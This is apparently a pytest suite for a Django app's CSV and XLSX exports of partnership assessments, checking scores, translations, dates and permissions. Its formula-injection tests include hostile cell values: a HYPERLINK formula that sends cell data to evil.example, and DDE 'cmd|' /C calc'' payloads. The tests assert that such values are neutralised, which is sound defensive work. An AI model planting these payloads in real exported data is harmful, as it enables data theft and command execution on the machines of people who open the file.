"""The assessment and answer exports: what they hold, in the reader's language, safe to
open in a spreadsheet, and decided assessments as they were decided."""

import codecs
import csv
import io
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from partnerships.assessments import exports as assessment_exports
from partnerships.assessments.models import Assessment
from partnerships.assessments.workflow import assessment_start
from partnerships.jobs.models import ExportJob
from partnerships.oversight.exports import spreadsheet_safe
from partnerships.partners.models import PartnerType
from partnerships.proposals.models import PartnerRole
from partnerships.proposals.services import PartnerRow, proposal_save
from partnerships.reports.models import SignedReview
from partnerships.reports.services import review_decide
from tests.factories import PartnerFactory, ProposalFactory, ProposalPartnerFactory, UserFactory
from tests.helpers import answer_all, approve, in_review, pass_gate

pytestmark = pytest.mark.django_db

EXPORTS = [
    "/oversight/exports/assessments.csv",
    "/oversight/exports/assessments.xlsx",
    "/oversight/exports/answers.csv",
    "/oversight/exports/answers.xlsx",
]
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def portfolio(agency, other_agency, assessor, reviewer):
    """Two assessments of the agency (one approved), one of another agency."""
    approved = assessment_start(
        proposal=ProposalPartnerFactory(proposal__agency=agency).proposal, user=assessor
    )
    approve(approved, reviewer, TR_1=1, BR_3="na")
    draft = assessment_start(
        proposal=ProposalPartnerFactory(proposal__agency=agency).proposal, user=assessor
    )
    pass_gate(draft)
    answer_all(draft, rating=2)
    stranger = UserFactory(agency=other_agency, roles=["Assessor"])
    elsewhere = assessment_start(
        proposal=ProposalPartnerFactory(proposal__agency=other_agency).proposal, user=stranger
    )
    approved.refresh_from_db()
    return approved, draft, elsewhere


def two_partner_proposal(agency, title="Clean water", value=Decimal("1250000")):
    """Acme Ltd (lead, Kenya) and Beta Fund (funder, France)."""
    proposal = ProposalFactory(agency=agency, title=title, value=value, currency="EUR")
    ProposalPartnerFactory(proposal=proposal, partner__legal_name="Acme Ltd", role="lead")
    ProposalPartnerFactory(
        proposal=proposal,
        partner__legal_name="Beta Fund",
        partner__country="FR",
        partner__partner_type=PartnerType.FOUNDATION,
        role="funder",
    )
    return proposal


def export(client, url, **headers):
    """Ask for an export as the portfolio page's button does, then download its file from
    the user's exports page (tasks run as they are enqueued in tests)."""
    asked = client.post(url, **headers)
    assert (asked.status_code, asked["Location"]) == (302, "/exports/")
    listed = client.get("/exports/", **headers)
    _job, progress = listed.context["rows"][0]  # the newest first
    assert progress["status"] == "done", progress
    return client.get(progress["download_url"], **headers)


def raw(response) -> bytes:
    return b"".join(response.streaming_content)


def read_csv(response) -> list[dict]:
    text = raw(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(raw(response)), read_only=True).active


def read_xlsx(response) -> list[dict]:
    rows = list(xlsx_sheet(response).iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def by_id(rows) -> dict[int, dict]:
    return {int(row["Assessment"]): row for row in rows}


def test_assessment_export_reads_back_with_per_principle_scores(client, reviewer, portfolio):
    approved, draft, _elsewhere = portfolio
    client.force_login(reviewer)
    for reader, url in [
        (read_csv, "/oversight/exports/assessments.csv"),
        (read_xlsx, "/oversight/exports/assessments.xlsx"),
    ]:
        rows = by_id(reader(export(client, url)))
        assert set(rows) == {approved.pk, draft.pk}  # a reviewer's export: their agency only
        row = rows[approved.pk]
        assert row["Status"] == "Approved" and row["Decided outcome"] == "Engage"
        assert row["Computed outcome"] == "Engage"
        assert row["Decision note"] == "Approved after review."
        assert row["Agency"] == "UNDP" and row["Assessor"] == "assessor"
        assert Decimal(str(row["Overall score (%)"])) == approved.overall_score
        # TR-1 "partially met", the others of transparency "fully met": (1*2 + 3*2 + 3 + 3) / 18
        assert Decimal(str(row["Score: Transparency"])) == Decimal("77.8")
        assert Decimal(str(rows[draft.pk]["Score: Common purpose"])) == Decimal("66.7")
        assert rows[draft.pk]["Status"] == "Draft"
        assert rows[draft.pk]["Decided outcome"] in ("", None)


def test_the_assessment_export_has_partners_decision_note_and_conditions(
    client, agency, assessor, reviewer
):
    assessment = assessment_start(proposal=two_partner_proposal(agency), user=assessor)
    approve(assessment, reviewer, rating=2)  # 66.7: Engage with conditions
    client.force_login(reviewer)
    for reader, url in [
        (read_csv, "/oversight/exports/assessments.csv"),
        (read_xlsx, "/oversight/exports/assessments.xlsx"),
    ]:
        row = by_id(reader(export(client, url)))[assessment.pk]
        assert row["Partners"] == (
            "Acme Ltd (Lead partner, Kenya, Developing economy); "
            "Beta Fund (Funder, France, Developed economy)"
        )
        assert row["Decided outcome"] == "Engage with conditions"
        assert row["Decision note"] == "Approved after review."
        assert row["Conditions"] == "Quarterly reports."
        assert row["Justification"] in ("", None)  # the decision follows the computed outcome
        assert Decimal(str(row["Value"])) == Decimal("1250000") and row["Currency"] == "EUR"


def test_a_decision_that_departs_from_the_computed_outcome_exports_its_justification(
    client, draft, reviewer
):
    in_review(draft, reviewer)
    review_decide(
        assessment=draft,
        user=reviewer,
        outcome="do_not_engage",
        note="Not now.",
        justification="The partner's plans changed.",
    )
    client.force_login(reviewer)
    row = by_id(read_csv(export(client, "/oversight/exports/assessments.csv")))[draft.pk]
    assert (row["Status"], row["Computed outcome"], row["Decided outcome"]) == (
        "Rejected",
        "Engage",
        "Do not engage",
    )
    assert row["Justification"] == "The partner's plans changed."


def test_a_proposal_edited_after_its_decision_exports_what_was_decided(
    client, agency, assessor, reviewer
):
    proposal = two_partner_proposal(agency, title="Clean water", value=Decimal("1250000"))
    decided = assessment_start(proposal=proposal, user=assessor)
    approve(decided, reviewer)
    proposal.refresh_from_db()
    proposal.title = "Clean water and sanitation"
    proposal.value = Decimal("9999999")
    late = PartnerFactory(legal_name="Late Funder Foundation", country="FR")
    proposal_save(
        proposal=proposal,
        user=assessor,
        partner_rows=[
            *[
                PartnerRow(role=link.role, partner=link.partner)
                for link in proposal.partner_links.all()
            ],
            PartnerRow(role=PartnerRole.IMPLEMENTER, partner=late),
        ],
    )
    reassessment = assessment_start(proposal=proposal, user=assessor)  # a draft: live data
    client.force_login(reviewer)
    for reader, url in [
        (read_csv, "/oversight/exports/assessments.csv"),
        (read_xlsx, "/oversight/exports/assessments.xlsx"),
    ]:
        rows = by_id(reader(export(client, url)))
        assert rows[decided.pk]["Proposal"] == "Clean water"
        assert Decimal(str(rows[decided.pk]["Value"])) == Decimal("1250000")
        assert "Late Funder Foundation" not in rows[decided.pk]["Partners"]
        assert rows[decided.pk]["Partners"].startswith("Acme Ltd (Lead partner")
        assert rows[reassessment.pk]["Proposal"] == "Clean water and sanitation"
        assert Decimal(str(rows[reassessment.pk]["Value"])) == Decimal("9999999")
        assert rows[reassessment.pk]["Partners"].endswith(
            "Late Funder Foundation (Implementer, France, Developed economy)"
        )
    answers = read_csv(export(client, "/oversight/exports/answers.csv"))
    assert {r["Proposal"] for r in answers if r["Assessment"] == str(decided.pk)} == {"Clean water"}


def test_answer_export_has_one_row_per_answer_with_labels(client, oversight, portfolio):
    approved, _draft, _elsewhere = portfolio
    client.force_login(oversight)
    rows = read_csv(export(client, "/oversight/exports/answers.csv"))
    assert len(rows) == 33 * 2  # the third assessment has no answers yet
    mine = {r["Criterion"]: r for r in rows if r["Assessment"] == str(approved.pk)}
    br3 = mine["BR-3"]
    assert (br3["Principle"], br3["Rating"], br3["Answer"]) == (
        "Balanced representation",
        "",
        "Not applicable",
    )
    assert br3["Justification"] == "No board."
    tr1 = mine["TR-1"]
    assert (tr1["Principle"], tr1["Rating"], tr1["Answer"]) == (
        "Transparency",
        "1",
        "Partially met",
    )
    assert {r["Key criterion"] for r in mine.values()} == {"yes", "no"}
    assert sum(r["Key criterion"] == "yes" for r in mine.values()) == 6
    assert tr1["Question"] and tr1["Proposal"] == approved.proposal.title
    xlsx = read_xlsx(export(client, "/oversight/exports/answers.xlsx"))
    assert len(xlsx) == 66
    tr1 = next(r for r in xlsx if r["Assessment"] == approved.pk and r["Criterion"] == "TR-1")
    assert (tr1["Rating"], tr1["Answer"]) == (1, "Partially met")  # the rating stays a number


def test_exports_are_for_oversight_and_reviewers(client, assessor, oversight, portfolio):
    client.force_login(assessor)
    for url in EXPORTS:
        assert client.post(url).status_code == 403
    assert not ExportJob.objects.exists()
    client.force_login(oversight)
    rows = read_csv(export(client, "/oversight/exports/assessments.csv"))
    assert len(rows) == 3
    assert client.post("/oversight/exports/nonsense.csv").status_code == 404
    assert client.post("/oversight/exports/assessments.pdf").status_code == 404
    # Asking is a POST (with its CSRF token): a link or an image cannot ask for one.
    assert client.get("/oversight/exports/assessments.csv").status_code == 405


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_like_a_formula_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-1.5"), -3, -0.5, None, "Plain text", "a=b"])
def test_numbers_and_other_text_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile(agency, assessor, reviewer):
    """A decided assessment whose every text field tries to be a formula."""
    proposal = ProposalFactory(agency=agency, title=EVIL_TITLE)
    ProposalPartnerFactory(proposal=proposal, partner__legal_name="+SUM(1,2)", role="lead")
    assessment = assessment_start(proposal=proposal, user=assessor)
    in_review(assessment, reviewer, rating=2)
    assessment.refresh_from_db()
    review_decide(
        assessment=assessment,
        user=reviewer,
        outcome="engage_with_conditions",
        note="@SUM(1+1)*cmd|' /C calc'!A0",
        conditions="-2+3+cmd|' /C calc'!A0",
    )
    for title in ["\t=1+1", "\r=1+1"]:  # leading whitespace is kept on these paths
        assessment_start(proposal=ProposalFactory(agency=agency, title=title), user=assessor)
    return assessment


HOSTILE_TEXTS = {
    EVIL_TITLE,
    "+SUM(1,2) (Lead partner, Kenya, Developing economy)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
}


def test_csv_cells_that_would_be_formulas_are_quoted(client, reviewer, hostile):
    client.force_login(reviewer)
    rows = read_csv(export(client, "/oversight/exports/assessments.csv"))
    cells = {cell for row in rows for cell in row.values()}
    assert {"'" + text for text in HOSTILE_TEXTS} <= cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    answers = read_csv(export(client, "/oversight/exports/answers.csv"))
    assert {r["Proposal"] for r in answers} == {"'" + EVIL_TITLE}


def test_xlsx_cells_are_values_never_formulas(client, reviewer, hostile):
    client.force_login(reviewer)
    for url in ["/oversight/exports/assessments.xlsx", "/oversight/exports/answers.xlsx"]:
        cells = [cell for row in xlsx_sheet(export(client, url)).iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == []
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        assert "'" + EVIL_TITLE in texts
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assessments = xlsx_sheet(export(client, "/oversight/exports/assessments.xlsx"))
    texts = {cell.value for row in assessments.iter_rows() for cell in row}
    assert {"'" + text for text in HOSTILE_TEXTS} <= texts


def test_a_note_with_control_characters_still_exports(client, reviewer, draft):
    answer_all(draft, rating=2)
    answer = draft.answers.first()
    answer.comment = "Bell\x07 and form feed\x0c"
    answer.save()
    client.force_login(reviewer)
    rows = read_xlsx(export(client, "/oversight/exports/answers.xlsx"))
    assert "Bell and form feed" in {r["Comment"] for r in rows}


def test_csv_starts_with_a_utf8_bom(client, reviewer, administrator, portfolio):
    client.force_login(reviewer)
    for url in ["/oversight/exports/assessments.csv", "/oversight/exports/answers.csv"]:
        response = export(client, url)
        assert response.streaming and response["Content-Type"].startswith("text/csv")
        assert raw(response).startswith(codecs.BOM_UTF8 + b"Assessment,Agency,Proposal,")
    # The admin's action: the file its background job wrote, the same way.
    client.force_login(administrator)
    response = client.post(
        "/admin/assessments/assessment/",
        {"action": "export_csv", "_selected_action": [a.pk for a in portfolio]},
    )
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert raw(response).startswith(codecs.BOM_UTF8 + b"Assessment,Agency,Proposal,")


def test_exports_speak_the_readers_language(client, reviewer, agency, assessor):
    assessment = assessment_start(proposal=two_partner_proposal(agency), user=assessor)
    approve(assessment, reviewer, rating=2)
    client.force_login(reviewer)
    csv_response = export(
        client, "/oversight/exports/assessments.csv", HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    xlsx_response = export(
        client, "/oversight/exports/assessments.xlsx", HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    answers_response = export(
        client, "/oversight/exports/answers.csv", HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    translation.activate("en")  # the files were written in the language they were asked in
    for row in [read_csv(csv_response)[0], read_xlsx(xlsx_response)[0]]:
        assert {"评估", "机构", "提案", "伙伴", "状态", "决定说明", "条件"} <= set(row)
        assert any("共同目的" in header for header in row)
        assert row["状态"] == "已批准"
        assert row["决定的结果"] == "有条件合作"
        lead, funder = row["伙伴"].split("; ")
        assert lead.startswith("Acme Ltd") and "Lead partner" not in lead
        assert all(label in lead for label in ["牵头伙伴", "肯尼亚", "发展中经济体"])
        assert all(label in funder for label in ["出资方", "法国", "发达经济体"])
    answer = next(r for r in read_csv(answers_response) if r["标准"] == "TR-1")
    assert (answer["原则"], answer["回答"]) == ("透明", "大部分满足")


def test_xlsx_dates_are_dates_in_the_named_time_zone(client, reviewer, portfolio):
    approved, draft, _elsewhere = portfolio
    client.force_login(reviewer)
    row = by_id(read_xlsx(export(client, "/oversight/exports/assessments.xlsx")))[approved.pk]
    decided = approved.decided_at.replace(microsecond=0, tzinfo=None)  # UTC: the app's zone
    assert isinstance(row["Decided (UTC)"], datetime) and row["Decided (UTC)"] == decided
    assert isinstance(row["Submitted (UTC)"], datetime)
    csv_row = by_id(read_csv(export(client, "/oversight/exports/assessments.csv")))[approved.pk]
    assert datetime.fromisoformat(csv_row["Decided (UTC)"]) == approved.decided_at.replace(
        microsecond=0
    )
    assert csv_row["Decided (UTC)"].endswith("+00:00")
    assert (
        by_id(read_csv(export(client, "/oversight/exports/assessments.csv")))[draft.pk][
            "Decided (UTC)"
        ]
        == ""
    )


def test_export_queries_do_not_grow(client, oversight, agency, assessor, reviewer, portfolio):
    client.force_login(oversight)

    def queries(url):
        with CaptureQueriesContext(connection) as context:
            raw(export(client, url))
        return len(context)

    few = {url: queries(url) for url in EXPORTS}
    for _ in range(3):
        draft = assessment_start(proposal=two_partner_proposal(agency), user=assessor)
        answer_all(draft, rating=2)
    approve(assessment_start(proposal=two_partner_proposal(agency), user=assessor), reviewer)
    assert {url: queries(url) for url in EXPORTS} == few


def test_rows_read_in_chunks_are_the_rows_read_at_once(
    client, oversight, agency, assessor, portfolio, monkeypatch
):
    draft = assessment_start(proposal=two_partner_proposal(agency), user=assessor)
    answer_all(draft, rating=2)  # undecided: its partners are read live, per chunk
    client.force_login(oversight)
    urls = ["/oversight/exports/assessments.csv", "/oversight/exports/answers.csv"]
    at_once = {url: raw(export(client, url)) for url in urls}
    monkeypatch.setattr(assessment_exports, "CHUNK", 1)
    monkeypatch.setattr(assessment_exports, "ANSWER_CHUNK", 1)
    assert {url: raw(export(client, url)) for url in urls} == at_once


def test_admin_actions_export_and_zip_the_selection(client, administrator, portfolio):
    approved, draft, _elsewhere = portfolio
    client.force_login(administrator)
    url = "/admin/assessments/assessment/"
    selection = {"_selected_action": [approved.pk, draft.pk]}
    rows = read_csv(client.post(url, {"action": "export_csv", **selection}))
    assert {int(r["Assessment"]) for r in rows} == {approved.pk, draft.pk}
    assert len(read_xlsx(client.post(url, {"action": "export_xlsx", **selection}))) == 2
    review = SignedReview.objects.get()
    response = client.post(
        "/admin/reports/signedreview/",
        {"action": "download_signed_reviews", "_selected_action": [review.pk]},
    )
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert archive.namelist() == [review.filename]
    assert archive.read(review.filename) == bytes(review.pdf)


def test_admin_filters_for_oversight(client, administrator, portfolio):
    client.force_login(administrator)
    url = "/admin/assessments/assessment/"
    developed = client.get(url, {"proposal__partners__economy_group__exact": "developed"})
    assert list(developed.context["cl"].queryset) == []  # every partner here is in Kenya
    developing = client.get(url, {"proposal__partners__economy_group__exact": "developing"})
    assert developing.context["cl"].result_count == 3
    response = client.get(url, {"status__exact": "approved"})
    assert list(response.context["cl"].queryset) == [Assessment.objects.get(status="approved")]
